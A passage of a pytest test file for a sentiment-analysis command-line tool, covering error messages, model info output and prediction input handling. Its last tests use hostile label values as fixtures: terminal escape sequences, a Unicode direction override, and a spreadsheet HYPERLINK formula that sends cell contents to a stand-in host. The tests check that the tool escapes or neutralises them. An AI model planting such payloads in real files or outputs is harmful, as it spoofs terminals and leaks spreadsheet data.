    paths["blank_text"].write_text("text,label\ngood,1\n,0\n   ,1\nawful,0\n")
    paths["blank_label"] = tmp_path / "blank.csv"
    paths["blank_label"].write_text("text,label\ngood,1\nbad,\nfine,1\nawful,0\n")
    paths["unseen"] = tmp_path / "unseen.csv"
    pd.DataFrame({"review": ["good", "bad"], "stars": [1, 7]}).to_csv(paths["unseen"], index=False)
    paths["default_columns"] = tmp_path / "default_columns.csv"
    pd.DataFrame({"text": ["good", "bad"], "label": [1, 0]}).to_csv(paths["default_columns"], index=False)
    paths["trees"] = tmp_path / "trees.txt"
    paths["trees"].write_text("(3 (2 The) (4 wonderful)\n")
    return paths


@pytest.mark.parametrize("case, pattern", [
    ("latin", "not UTF-8"),
    ("empty", "is empty"),
    ("columns", "no column 'text', 'label'; its columns are: review, stars"),
    ("one_class", "training needs at least two different labels"),
    ("blank_label", "1 row\\(s\\) have no label in column 'label' \\(data rows 2\\)"),
    ("blank_text", "2 row\\(s\\) have no text in column 'text' \\(data rows 2, 3\\)"),
    ("trees", "line 1 is not a PTB sentiment tree"),
])
def test_fit_bad_files(bad_files, tmp_path, case, pattern):
    assert_error(invoke("fit", bad_files[case], "--out", tmp_path / "m"), pattern)
    assert not (tmp_path / "m").exists()


def test_fit_header_only_file(bad_files, tmp_path):
    assert_error(invoke("fit", bad_files["header"], "--out", tmp_path / "m"), "no rows|no texts")


def test_fit_header_only_file_with_dev(bad_files, files, tmp_path):
    assert_error(invoke("fit", bad_files["header"], "--dev", bad_files["header"], "--out", tmp_path / "m"),
                 "header.csv has a header but no rows")


@pytest.mark.parametrize("args, pattern", [
    (["--set", "bogus=1"], "unknown option 'bogus'"),
    (["--set", "C"], r"--set takes KEY=VALUE, e.g. --set stopwords=true \(`sentiment options` lists the keys\); got 'C'"),
    (["--set", "C=abc", "--model", "logreg"], "C must be a number"),
    (["--set", "ngram_range=[3,1]"], "ngram_range"),
    (["--model", "forest"], "unknown model 'forest'"),
    (["--vectorizer", "bert"], "unknown vectorizer 'bert'"),
    (["--vectorizer", "word2vec", "--model", "nbsvm", "--set", "vector_size=8"], "non-negative"),
    (["--label-names", "0:bad"], "--label-names takes VALUE=NAME"),
    (["--label-names", "0=bad"], "name every label"),
    (["--dev-fraction", "2"], "must be a number from 0 to below 1, not 2.0"),
    (["--dev-fraction", "-0.1"], "must be a number from 0 to below 1, not -0.1"),
    (["--tune-fraction", "0.2"], "--tune-fraction goes with --multi-label"),
    (["--multi-label", "--tune-fraction", "1"], r"tune_fraction \(--tune-fraction\) must be a number from 0 to below 1"),
    (["--multi-label", "--tune-fraction", "0.2", "--set", "tune_fraction=0.3"], "--tune-fraction and --set tune_fraction"),
    (["--grouping", "ekman", "--set", "grouping=sentiment"], "--grouping and --set grouping"),
    (["--task", "sarcasm"], "unknown task .sarcasm.; choose polarity, emotion or aspect"),
    (["--set", "min_df=1000"], "min_df"),
    (["--text-column", "body"], "no column 'body'"),
])
def test_fit_bad_options(files, tmp_path, args, pattern):
    text_column = [] if "--text-column" in args else ["--text-column", "review"]  # (an option is given once)
    base = ["fit", files["train"], *text_column, "--label-column", "stars", "--out", tmp_path / "m"]
    assert_error(invoke(*base, *args), pattern)


def test_evaluate_names_the_model_it_scores(model, files):
    out, _ = model
    first = invoke("evaluate", files["dev"], "--model", out).stdout.splitlines()[0]
    assert first == f"model      {out}"


def test_evaluate_with_a_kind_of_model_for_its_folder_says_what_model_takes_there(files, tmp_path):
    assert_error(invoke("evaluate", files["train"], "--model", "nb"), r"nb is also a kind of model, which fit's --model "
                 r"names\); give the folder of a trained one")
    assert_error(invoke("info", "mlp"), "mlp is also a kind of model")


@pytest.mark.parametrize("args", [["--model", "a", "--model", "b"], ["--model=a", "--model", "b"], ["--vectorizer", "count", "--vectorizer=tfidf"]])
def test_an_option_of_one_value_given_twice_is_refused(args):
    result = invoke("fit", "data.csv", *args, "--set", "C=1", "--set", "C=2")  # (--set may repeat)
    assert result.exit_code == 2 and "given twice; give it once" in result.output
    assert "given twice" not in invoke("predict", "--aspect", "--model", "--task", "aspect", "a --model b").output
    twice = invoke("predict", "--aspect", "--model", "--model", "a", "--model", "b", "x")  # the value of --aspect, then two
    assert twice.exit_code == 2 and "given twice" in twice.output
    assert invoke("evaluate", "x.csv", "--model", "a", "--model", "b", "--help").output.startswith("Usage:")  # help wins
    assert "given twice" in invoke("predict", "--model", "a", "--model", "b", "--", "--help").output  # a text
    both = invoke("fit", "x.csv", "--refit", "--no-refit")
    assert both.exit_code == 2 and "given both ways (--refit and --no-refit); give one" in both.output
    once = invoke("predict", "--aspect", "--model", "x", "--model", str(default_model_path("aspect")))
    assert "given twice" not in once.output  # --model once: the first is the value of --aspect


@pytest.mark.parametrize("fraction", ["--dev-fraction", "--tune-fraction"])
def test_a_bad_fraction_is_refused_before_training_is_logged(files, tmp_path, fraction):
    result = invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--multi-label",
                    fraction, "1", "--out", tmp_path / "m")
    assert_error(result, "must be (a number above 0 and below 1|a number from 0 to below 1)")
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_dev_fraction_too_large_to_split_names_the_flags(files, tmp_path):
    """The split's advice is the command line's (Python callers get "dev fraction" and "dev data")."""
    result = invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--dev-fraction",
                    "0.995", "--out", tmp_path / "m")
    assert_error(result, r"give a smaller --dev-fraction, or pass --dev FILE$")
    assert not (tmp_path / "m").exists()


def test_fit_refuses_non_model_out_dir(files, tmp_path):
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "notes.txt").write_text("keep me")
    assert_error(invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--out", folder),
                 "non-empty directory")
    assert (folder / "notes.txt").read_text() == "keep me"


def test_fit_with_a_bad_report_path_keeps_the_saved_model(files, tmp_path):
    out = tmp_path / "m"
    base = ["fit", files["train"], "--text-column", "review", "--label-column", "stars", "--out", out]
    assert invoke(*base).exit_code == 0
    before = (out / "config.json").read_text()
    assert_error(invoke(*base, "--set", "C=2", "--model", "logreg", "--report", files["train"]), "is a file")
    assert (out / "config.json").read_text() == before


def test_fit_refuses_a_report_it_could_not_write_before_replacing_the_model(files, tmp_path):
    out, report = tmp_path / "m", tmp_path / "rep"
    base = ["fit", files["train"], "--text-column", "review", "--label-column", "stars", "--out", out]
    assert invoke(*base).exit_code == 0
    before = (out / "config.json").read_text()
    (report / "confusion_matrix.png").mkdir(parents=True)
    assert_error(invoke(*base, "--set", "C=2", "--report", report), "confusion_matrix.png is a directory where the report")
    assert (out / "config.json").read_text() == before



def test_fit_says_the_model_was_saved_when_only_its_report_failed(files, tmp_path, monkeypatch):
    import errno

    import sentiment.evaluation

    def full_disk(report, folder, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(folder / "metrics.json"))

    monkeypatch.setattr(sentiment.evaluation, "write_report", full_disk)
    out = tmp_path / "m"
    result = invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars", "--out", out,
                    "--report", tmp_path / "rep")
    assert_error(result, r"the model was saved to .*m, but the report could not be written \(no space left on the "
                         r"device: .*metrics.json; free some space")
    assert Pipeline.load(out).predict(["great film"])


def test_nothing_is_written_inside_a_model_directory(model, files, tmp_path):
    import shutil

    copy = tmp_path / "m"
    shutil.copytree(model[0], copy)
    source = tmp_path / "in.csv"
    source.write_text("review\ngreat film\n")
    for command, pattern in [
        (["evaluate", files["dev"], "--model", copy, "--report", copy / "rep"], "--report"),
        (["predict", "--model", copy, "--input", source, "--output", copy / "out.csv"], "--output"),
        (["export", copy, "--out", copy / "net.pt"], "--out"),
    ]:
        assert_error(invoke(*command), f"{pattern} .* lies inside the model directory .*m, which the model's next "
                                       r"save replaces as a whole \(and refuses to while other files are in it\); "
                                       "write it elsewhere")
    assert sorted(p.name for p in copy.iterdir()) == sorted(p.name for p in model[0].iterdir())
    Pipeline.load(copy).save(copy)  # a save there still works


def test_predict_notes_texts_without_a_known_word(model):
    result = invoke("predict", "--model", model[0], "这部电影太棒了", "a great film", "qqq zzz")
    assert result.exit_code == 0 and len(result.stdout.splitlines()) == 3
    assert "note: the model knows none of the words (or n-grams) of text(s) 1, 3: their labels are its guess" in result.stderr
    assert "words its training data lack?" in result.stderr and "shipped" not in result.stderr  # the user's own model
    assert "the shipped models know English" in invoke("predict", "这部电影太棒了").stderr
    assert "note:" not in invoke("predict", "--model", model[0], "a great film").stderr
    printed = json.loads(invoke("predict", "--model", model[0], "--json", "qqq zzz", "a great film").stdout)
    assert printed[0]["known_features"] == 0 and printed[1]["known_features"] > 0


def test_predict_input_of_plain_text_points_to_stdin(model, tmp_path):
    notes = tmp_path / "reviews.txt"
    notes.write_text("great film\nawful film\n")
    assert_error(invoke("predict", "--model", model[0], "--input", notes, "--output", tmp_path / "out.csv"),
                 r"predict one text per line with `sentiment predict \[--model DIR \| --task TASK\] - < .*reviews.txt`")
    spaced = tmp_path / "my reviews.txt"
    spaced.write_text("great film\n")
    assert_error(invoke("predict", "--model", model[0], "--input", spaced, "--output", tmp_path / "out.csv"),
                 r"`sentiment predict \[--model DIR \| --task TASK\] - < '.*my reviews.txt'`")  # quoted: the advice works as given


def test_fit_missing_data_file(tmp_path):
    assert_error(invoke("fit", tmp_path / "nope.csv"), "does not exist")


@pytest.mark.parametrize("args, pattern", [
    (["", ], "text 1 is empty"),
    (["fine", "   "], "text 2 is empty or only whitespace"),
    ([], "give at least one text"),
    (["--input", "@dev"], "--input needs --output"),
    (["--output", "o.csv", "text"], "--output goes with --input"),
    (["--text-column", "body", "text"], "--text-column goes with --input"),
    (["--batch-size", "5", "text"], "--batch-size goes with --input"),
    (["--input", "@dev", "--output", "@out", "some text"], "not both"),
    (["--input", "@dev", "--output", "@dev"], "is the input file"),
    (["--input", "@dev", "--output", "@parquet"], "give --output a .csv, .tsv or .jsonl file name"),
    (["--input", "@dev", "--output", "@in_a_file"], "Not a directory|File exists"),
    (["--input", "@dev", "--output", "@out", "--json"], "--json prints the predictions of texts on the command line"),
    (["-", "another text"], "give it alone"),
    (["--task", "emotion", "some text"], "with a model directory leave it out"),
    (["--input", "@dev", "--output", "@out", "--text-column", "body"], "no column 'body'"),
    (["--input", "@missing", "--output", "@out"], "does not exist"),
])
def test_predict_bad_input(model, files, tmp_path, args, pattern):
    out, _ = model
    names = {"@dev": files["dev"], "@out": tmp_path / "o.csv", "@parquet": tmp_path / "o.parquet",
             "@missing": tmp_path / "missing.csv", "@in_a_file": Path(files["dev"]) / "o.csv"}
    args = [names.get(a, a) for a in args]
    assert_error(invoke("predict", "--model", out, *args), pattern)
    assert not (tmp_path / "o.csv").exists()


@pytest.mark.parametrize("case, pattern", [("latin", "not UTF-8"), ("empty", "is empty"),
                                           ("header", "no rows|no texts")])
def test_predict_bad_input_files(model, bad_files, tmp_path, case, pattern):
    out, _ = model
    target = tmp_path / "predictions.csv"
    assert_error(invoke("predict", "--model", out, "--input", bad_files[case], "--output", target,
                        "--text-column", "text"), pattern)
    assert not target.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_predict_stdin_drops_windows_line_ends(model):
    out, _ = model
    result = invoke("predict", "--model", out, "--json", "-", input="good one\r\nbad one\r\n")
    assert result.exit_code == 0, result.output
    assert [r["text"] for r in json.loads(result.stdout)] == ["good one", "bad one"]
    result = invoke("predict", "--model", out, "--json", "-", input="\ufeffgood one\n")  # a byte-order mark
    assert [r["text"] for r in json.loads(result.stdout)] == ["good one"]
    import subprocess
    import sys

    code = f"import sys; from sentiment.cli import main; sys.argv = ['sentiment', 'predict', '--model', {str(out)!r}, '--json', '-']; main()"
    done = subprocess.run([sys.executable, "-c", code], input=b"good one\rbad one\r", capture_output=True, timeout=120)
    assert [r["text"] for r in json.loads(done.stdout)] == ["good one", "bad one"]  # old Mac line ends, a real stdin


def test_predict_notes_trees_on_stdin(model):
    out, _ = model
    result = invoke("predict", "--model", out, "-", input=SST_TREES)
    assert result.exit_code == 0 and "note: stdin's first line is an SST tree" in result.stderr
    assert "SST tree" not in invoke("predict", "--model", out, "-", input="great (2 x) film\n(fine)\n").stderr


def test_predict_without_texts_but_with_lines_piped_in_says_to_give_a_dash(model):
    import subprocess
    import sys

    code = f"import sys; from sentiment.cli import main; sys.argv = ['sentiment', 'predict', '--model', {str(model[0])!r}]; main()"
    done = subprocess.run([sys.executable, "-c", code], input=b"ok then\n", capture_output=True, timeout=120)
    assert done.returncode == 1 and done.stderr.decode().strip().endswith("to read the lines piped in, give '-'")


def test_predict_empty_stdin(model):
    out, _ = model
    assert_error(invoke("predict", "--model", out, "-", input="\n  \n"), "no text on stdin")


def test_predict_bad_model_dirs(tmp_path, model):
    assert_error(invoke("predict", "--model", tmp_path / "nope", "good"), "does not exist")
    (tmp_path / "file").write_text("x")
    assert_error(invoke("predict", "--model", tmp_path / "file", "good"), "is a file")
    (tmp_path / "empty").mkdir()
    assert_error(invoke("predict", "--model", tmp_path / "empty", "good"), "no config.json")
    import shutil

    damaged = tmp_path / "damaged"
    shutil.copytree(model[0], damaged)
    (damaged / "model" / "arrays.safetensors").write_bytes(b"\0" * 10)
    assert_error(invoke("predict", "--model", damaged, "good"), "checksum")


@pytest.mark.parametrize("case, pattern", [
    ("unseen", "label\\(s\\) 7 were not seen in training"),
    ("latin", "not UTF-8"),
    ("empty", "is empty"),
    ("default_columns", "no column 'review', 'stars'; its columns are: text, label"),
])
def test_evaluate_bad_files(model, bad_files, case, pattern):
    out, _ = model
    assert_error(invoke("evaluate", bad_files[case], "--model", out), pattern)


def test_evaluate_header_only_file(model, bad_files):
    out, _ = model
    assert_error(invoke("evaluate", bad_files["header"], "--model", out, "--text-column", "text",
                        "--label-column", "label"), "no rows|no texts")


def test_evaluate_missing_model(files, tmp_path):
    assert_error(invoke("evaluate", files["dev"], "--model", tmp_path / "nope"), "does not exist")


def test_info_shows_what_a_model_is(saved_model):
    result = invoke("info", saved_model)
    assert_ok(result)
    lines = result.stdout.splitlines()
    assert lines[0].startswith(f"model        {saved_model} (pipeline; sentiment ")
    assert lines[1:3] == ["settings     vectorizer: tfidf", "             model: logreg"]
    assert "labels       neg, pos" in lines and any(line.strip().startswith("model_settings: C=") for line in lines)
    shown = {line.strip().split(": ", 1)[0]: line.strip().split(": ", 1)[1] for line in lines[3:8] if ": " in line}
    assert "lowercase=true" in shown["cleaner_settings"] and "max_df=1.0" in shown["vectorizer_settings"]
    assert "grouping=null" in shown["pipeline_settings"]  # the values as `options` and JSON write them
    described = json.loads(invoke("info", saved_model, "--json").stdout)
    assert described["kind"] == "pipeline" and described["labels"] == ["neg", "pos"]
    assert described["multi_label"] is False and described["thresholds"] is None
    assert described["settings"]["vectorizer"] == "tfidf"
    assert described["settings"]["pipeline_settings"] == {"grouping": None}  # tune_fraction: several labels only
    assert described["label_values"] is None  # predict gives the names themselves


def test_info_wraps_its_long_lines_to_a_terminal_and_not_in_a_pipe(monkeypatch):
    """On a terminal each line of `info` fits its width, broken after a comma with the rest indented under the
    text; to a pipe (as here) each stays whole, for scripts."""
    from sentiment import cli

    whole = invoke("info").stdout.splitlines()
    assert max(map(len, whole)) > 100  # the cleaner's settings, the dev figures
    for width in (70, 100, 120):
        monkeypatch.setattr(cli, "_terminal_width", lambda: width)
        wrapped = invoke("info").stdout.splitlines()
        assert all(len(line) <= width or len(cli._settings_parts(line[15:])) == 1 for line in wrapped)  # (one setting)
        assert len(wrapped) > len(whole)
        joined, line = [], ""
        for part in wrapped:
            if part.startswith(" " * 15) and part[15] != " " and line.endswith(","):  # a wrapped line goes on
                line += " " + part.strip()
            else:
                joined.append(line) if line else None
                line = part
        assert joined + [line] == whole
    for n in range(18, 25):  # a line that fills the width keeps room for the comma a break adds (25: the part alone)
        assert max(map(len, cli._info_line("settings", f"a, {'b' * n}, next", 40).splitlines())) <= 40, n
    ranged = cli._info_line("vectorizer", "analyzer=word, ngram_range=[1, 2], char_ngram_range=[2, 5], min_df=2", 44)
    assert "[1, 2]" in ranged and "[2, 5]" in ranged  # a list value is never cut: the line can go to --set
    faces = cli._info_line("labels", ", ".join([":[", "angry", "happy", "sad", "calm", "tired", "bored", "glad"]), 30)
    assert all(len(line) <= 30 for line in faces.splitlines())  # brackets that do not pair up cut nothing short
    bells = cli._info_line("labels", ", ".join(f"label\x07{k}" for k in range(10)), 60)  # measured as printed
    assert "\x07" not in bells and all(len(line) <= 60 for line in bells.splitlines())


def test_info_shows_the_values_predict_gives_where_label_names_name_them(tmp_path):
    """Fitted on stars 1 and 5 named negative and positive, Python's predict() gives 1 and 5, which info left
    unsaid (it showed the names alone)."""
    data = tmp_path / "stars.csv"
    data.write_text("text,stars\n" + "".join(f"{t},{s}\n" for t, s in [("awful film", 1), ("great film", 5),
                                                                      ("dull plot", 1), ("lovely plot", 5)] * 5))
    assert_ok(invoke("fit", data, "--label-column", "stars", "--label-names", "1=negative,5=positive", "--model",
                     "logreg", "--out", tmp_path / "m"))
    assert "labels       1=negative, 5=positive" in invoke("info", tmp_path / "m").stdout.splitlines()
    described = json.loads(invoke("info", tmp_path / "m", "--json").stdout)
    assert described["labels"] == ["negative", "positive"] and described["label_values"] == {"negative": 1, "positive": 5}
    assert sentiment.load(tmp_path / "m").predict(["great film"]).tolist() == [5]


@pytest.mark.skipif(sys.platform == "win32", reason="Windows file names hold no line break")
def test_a_line_break_in_a_path_stays_on_its_line(saved_model, files, tmp_path):
    model = tmp_path / "my\nmodel"
    shutil.copytree(saved_model, model)
    result = invoke("info", model)
    assert_ok(result)
    assert result.stdout.splitlines()[0].startswith(f"model        {tmp_path}/my\\nmodel (pipeline;")
    output = tmp_path / "out\nput.csv"
    result = invoke("predict", "--model", model, "--input", files["dev"], "--output", output, "--text-column", "review")
    assert_ok(result)
    assert result.stderr.strip().endswith("out\\nput.csv") and len(result.stderr.strip().splitlines()) == 1


def test_info_leaves_out_the_vector_training_settings_of_vectors_read_from_a_file(tmp_path):
    (tmp_path / "glove.txt").write_text("good 1 0 0\nbad 0 1 0\nfilm 0 0 1\n", encoding="utf-8")
    texts, labels = ["good film", "bad film", "good", "bad"] * 3, ["pos", "neg", "pos", "neg"] * 3
    sentiment.Pipeline("word2vec", "logreg", vectors_path=str(tmp_path / "glove.txt")).fit(texts, labels).save(tmp_path / "m")
    settings = json.loads(invoke("info", tmp_path / "m", "--json").stdout)["settings"]["vectorizer_settings"]
    assert settings["vectors_path"].endswith("glove.txt") and settings["vector_size"] == 3
    assert not {"window", "min_count", "w2v_epochs", "skipgram", "workers", "seed"} & set(settings)  # changed nothing
    sentiment.Pipeline("word2vec", "logreg", vector_size=4, min_count=1).fit(texts, labels).save(tmp_path / "trained")
    assert "window" in json.loads(invoke("info", tmp_path / "trained", "--json").stdout)["settings"]["vectorizer_settings"]


def test_info_of_the_shipped_models_and_bad_paths(tmp_path):
    emotion = json.loads(invoke("info", "--task", "emotion", "--json").stdout)
    assert emotion["multi_label"] and set(emotion["thresholds"]) == set(emotion["labels"])
    assert all(0 < t < 1 for t in emotion["thresholds"].values())
    aspect = json.loads(invoke("info", "--task", "aspect", "--json").stdout)
    assert aspect["kind"] == "aspect" and aspect["labels"] == ["negative", "neutral", "positive"]
    assert aspect["dev_metrics"]["extraction_f1"] > 0
    assert_error(invoke("info", tmp_path / "nowhere"), "does not exist")
    assert_error(invoke("info", tmp_path, "--task", "emotion"), "--task picks a shipped model")


def test_info_of_an_ensemble_describes_its_members(saved_ensemble):
    described = json.loads(invoke("info", saved_ensemble, "--json").stdout)
    assert described["kind"] == "ensemble" and described["sentiment_version"]
    members = described["settings"]["members"]
    assert [m["vectorizer"] for m in members.values()] == ["tfidf", "count"]
    assert all(m["model"] == "logreg" and "C" in m["model_settings"] for m in members.values())
    assert described["reading_version"] == {"member0": READING_VERSION, "member1": READING_VERSION}


def test_info_names_an_ensembles_members_by_the_folders_its_config_names(saved_ensemble, tmp_path):
    import shutil

    from sentiment.persistence import CONFIG, write_config

    folder = tmp_path / "renamed"
    shutil.copytree(saved_ensemble, folder)
    (folder / "member0").rename(folder / "tfidf")
    config = json.loads((folder / CONFIG).read_text())
    config["members"][0] = "tfidf"
    files = {key.replace("member0/", "tfidf/"): value for key, value in config.pop("files").items()}
    write_config(folder, {k: v for k, v in config.items() if k not in ("format", "format_version")}, files)
    described = json.loads(invoke("info", folder, "--json").stdout)
    assert described["reading_version"] == {"tfidf": READING_VERSION, "member1": READING_VERSION}
    assert list(described["settings"]["members"]) == ["tfidf", "member1"]


def test_info_of_an_ensemble_within_an_ensemble(saved_ensemble, fitted, tmp_path):
    Ensemble([sentiment.load(saved_ensemble), fitted("tfidf", "logreg")]).save(tmp_path / "nested")
    described = json.loads(invoke("info", tmp_path / "nested", "--json").stdout)
    assert described["reading_version"] == {"member0": {"member0": READING_VERSION, "member1": READING_VERSION},
                                            "member1": READING_VERSION}
    assert list(described["settings"]["members"]["member0"]["members"]) == ["member0", "member1"]
    shown = invoke("info", tmp_path / "nested")
    assert_ok(shown)
    assert (f"text reading member0/member0 {READING_VERSION}, member0/member1 {READING_VERSION}, "
            f"member1 {READING_VERSION})") in shown.stdout


def test_info_reads_a_model_whose_saved_extras_are_not_tables(fitted, tmp_path):
    fitted("tfidf", "logreg").save(tmp_path / "m", extra={"metrics": "fine", "data": None})
    described = json.loads(invoke("info", tmp_path / "m", "--json").stdout)
    assert described["dev_metrics"] is None and described["data"] is None
    fitted("tfidf", "logreg").save(tmp_path / "n", extra={"metrics": {"dev": "fine"}})
    assert json.loads(invoke("info", tmp_path / "n", "--json").stdout)["dev_metrics"] is None


def test_fit_several_labels_with_tune_fraction_zero_keeps_thresholds_at_one_half(tmp_path):
    rows = [("I am glad and happy", "joy"), ("so furious now", "anger"), ("glad but furious", "joy;anger")] * 10
    pd.DataFrame(rows, columns=["text", "labels"]).to_csv(tmp_path / "ml.csv", index=False)
    assert_ok(invoke("fit", tmp_path / "ml.csv", "--multi-label", "--label-column", "labels", "--tune-fraction", "0",
                     "--out", tmp_path / "m"))
    described = json.loads(invoke("info", tmp_path / "m", "--json").stdout)
    assert set(described["thresholds"].values()) == {0.5}
    assert described["data"]["n_tune"] == 0 and described["data"]["tune"] == "none (tune_fraction 0)"
    assert_error(invoke("fit", tmp_path / "ml.csv", "--label-column", "labels", "--set", "tune_fraction=0.3",
                        "--out", tmp_path / "n"), "tune_fraction goes with --multi-label")


def test_fit_multi_label_on_one_label_per_text_says_so(tmp_path):
    """--multi-label on a table of one label per text trains yes/no models and scores them as such: a note says so."""
    rows = [("I am glad and happy", "joy"), ("so furious now", "anger"), ("what a calm day", "calm")] * 10
    pd.DataFrame(rows, columns=["text", "labels"]).to_csv(tmp_path / "one.csv", index=False)
    result = invoke("fit", tmp_path / "one.csv", "--multi-label", "--label-column", "labels", "--model", "logreg",
                    "--out", tmp_path / "m")
    assert_ok(result)
    assert "note: every text of one.csv has exactly one label" in result.stderr
    rows[0] = ("glad but furious", "joy;anger")
    pd.DataFrame(rows, columns=["text", "labels"]).to_csv(tmp_path / "ml.csv", index=False)
    several = invoke("fit", tmp_path / "ml.csv", "--multi-label", "--label-column", "labels", "--model", "logreg",
                     "--out", tmp_path / "n")
    assert_ok(several)
    assert "exactly one label" not in several.stderr
    assert "--label-sep" in result.stderr  # a table's joined cells: perhaps joined by another mark


def test_fit_multi_label_on_lists_of_one_label_advises_plain_labels(tmp_path):
    """Lists of one label each: leaving --multi-label out alone would be refused (lists are read as lists), so
    the note says to give each label alone, and says nothing of --label-sep."""
    rows = [{"text": text, "labels": [label]} for text, label in
            [("I am glad and happy", "joy"), ("so furious now", "anger"), ("what a calm day", "calm")] * 10]
    (tmp_path / "one.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    result = invoke("fit", tmp_path / "one.jsonl", "--multi-label", "--label-column", "labels", "--model", "logreg",
                    "--out", tmp_path / "m")
    assert_ok(result)
    note = next(line for line in result.stderr.splitlines() if "exactly one label" in line)
    assert "not in a list" in note and "--label-sep" not in note


def test_fit_says_in_its_own_words_when_too_few_texts_leave_the_thresholds_untuned(tmp_path):
    rows = [("glad", "joy"), ("furious", "anger"), ("glad and furious", "joy;anger"), ("so glad", "joy")] * 2
    pd.DataFrame(rows, columns=["text", "labels"]).to_csv(tmp_path / "tiny.csv", index=False)
    result = invoke("fit", tmp_path / "tiny.csv", "--multi-label", "--label-column", "labels", "--model", "logreg",
                    "--vectorizer", "count", "--dev-fraction", "0.4", "--no-refit", "--out", tmp_path / "m")
    assert_ok(result)
    assert "they stay at 0.5; give more texts of each class (the texts held out went back" in result.stderr  # 1 held out
    assert "Warning" not in result.stderr and "dev=(texts, labels)" not in result.stderr
    assert json.loads(invoke("info", tmp_path / "m", "--json").stdout)["data"]["tune"] == "none (too few texts to hold out)"
    refit = invoke("fit", tmp_path / "tiny.csv", "--multi-label", "--label-column", "labels", "--model", "logreg",
                   "--vectorizer", "count", "--dev-fraction", "0.4", "--tune-fraction", "0.2", "--out", tmp_path / "r")
    assert_ok(refit)  # the first fit (5 texts) holds out no tune part, the refit on all 8 holds out 2
    data = json.loads(invoke("info", tmp_path / "r", "--json").stdout)["data"]
    assert "they stay at 0.5" in refit.stderr and data["n_tune"] == 2 and data["tune"] == "20% of the training part (seed 0)"
    mlp = invoke("fit", tmp_path / "tiny.csv", "--multi-label", "--label-column", "labels", "--model", "mlp",
                 "--set", "epochs=2", "--set", "dev_fraction=0.4", "--dev-fraction", "0.4", "--no-refit",
                 "--out", tmp_path / "n")
    assert_ok(mlp)  # no tune part: the network early-stopped on its own dev_fraction, and the record says so
    data = json.loads(invoke("info", tmp_path / "n", "--json").stdout)["data"]
    assert data["n_tune"] == 0 and data["early_stopping"].startswith("40% of the training part (the model's dev_fraction")
    unstopped = invoke("fit", tmp_path / "tiny.csv", "--multi-label", "--label-column", "labels", "--model", "mlp",
                       "--set", "epochs=2", "--set", "dev_fraction=0", "--dev-fraction", "0.4", "--no-refit",
                       "--out", tmp_path / "z")
    assert_ok(unstopped)  # no early stopping asked for: none recorded as such, not as too few texts
    assert json.loads(invoke("info", tmp_path / "z", "--json").stdout)["data"]["early_stopping"] == "none (dev_fraction=0)"
    assert "for early stopping" not in unstopped.stderr
    most = invoke("fit", tmp_path / "tiny.csv", "--multi-label", "--label-column", "labels", "--model", "logreg",
                  "--vectorizer", "count", "--tune-fraction", "0.99", "--no-refit", "--out", tmp_path / "n")
    assert_ok(most)
    assert "give more texts or a smaller --tune-fraction" in most.stderr  # nothing left to train on: less held out


def test_control_characters_from_a_model_or_a_text_reach_the_terminalescaped(binary, tmp_path):
    labels = ["pos\x1b]0;owned\x07" if y == "pos" else "neg\x9b2J" for y in binary.train_labels]
    Pipeline("tfidf", "logreg").fit(binary.train_texts, labels).save(tmp_path / "m")
    result = invoke("predict", "--model", tmp_path / "m", "a great film\r", "an awful film")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout and "\r" not in result.stdout
    assert "pos\\x1b]0;owned\\x07" in result.stdout and "neg\\x9b2J" in result.stdout and "film\\r" in result.stdout
    info = invoke("info", tmp_path / "m")
    assert info.exit_code == 0 and "\x1b" not in info.stdout and "pos\\x1b]0;owned\\x07" in info.stdout
    as_json = invoke("predict", "--model", tmp_path / "m", "--json", "an awful film")
    assert "\x9b" not in as_json.stdout and json.loads(as_json.stdout)[0]["label"] == "neg\x9b2J"
    spoof = "a great film \u202eevitagen\u202c"  # an override: the line would read "... negative"
    shown = invoke("predict", "--model", tmp_path / "m", spoof, "--json"), invoke("predict", "--model", tmp_path / "m", spoof)
    assert all("\u202e" not in result.stdout for result in shown) and "\\u202e" in shown[1].stdout
    assert json.loads(shown[0].stdout)[0]["text"] == spoof


def test_label_names_a_spreadsheet_would_run_are_plain_text_in_csv_outputs(binary, tmp_path):
    """A shared model's label names fill the label column of predict --output and the report's mistakes.csv:
    a formula there would run where a spreadsheet opens the file; JSON Lines keep them as they are."""
    formula = '=HYPERLINK("http://x/?"&A1,"pos")'
    labels = [formula if y == "pos" else "-1 (negative)" for y in binary.train_labels]
    Pipeline("tfidf", "logreg").fit(binary.train_texts, labels).save(tmp_path / "m")
    source = tmp_path / "in.csv"
    pd.DataFrame({"text": ["a great great film", "an awful film"]}).to_csv(source, index=False)
    for name in ("out.csv", "out.tsv", "out.jsonl"):
        assert_ok(invoke("predict", "--model", tmp_path / "m", "--input", source, "--output", tmp_path / name))
    for name, sep in (("out.csv", ","), ("out.tsv", "\t")):
        written = pd.read_csv(tmp_path / name, sep=sep, keep_default_na=False)
        assert written["label"].tolist() == ["'" + formula, "-1 (negative)"]
    assert pd.read_json(tmp_path / "out.jsonl", lines=True)["label"].tolist() == [formula, "-1 (negative)"]
    gold = tmp_path / "gold.csv"
    pd.DataFrame({"text": ["a great great film"], "label": ["-1 (negative)"]}).to_csv(gold, index=False)
    assert_ok(invoke("evaluate", gold, "--model", tmp_path / "m", "--report", tmp_path / "rep"))
    mistakes = pd.read_csv(tmp_path / "rep" / "mistakes.csv", keep_default_na=False)
    assert mistakes[["label", "predicted"]].values.tolist() == [["-1 (negative)", "'" + formula]]


def test_labels_that_differ_by_an_invisible_character_print_apart(binary, tmp_path):
    """A zero-width space (or soft hyphen, byte-order mark, direction mark) shows as nothing: escaped in plain
    output, so that "positive" and "positive" + U+200B do not print alike, and as JSON escapes in JSON output
    (the same strings to a JSON reader); the joiners of emoji stay."""
    labels = ["positive\u200b" if y == "pos" else "positive" for y in binary.train_labels]
    Pipeline("tfidf", "logreg").fit(binary.train_texts, labels).save(tmp_path / "m")
    result = invoke("predict", "--model", tmp_path / "m", "a great film", "an awful film", "the \u00adend \U0001F468\u200d\U0001F469")
    assert_ok(result)
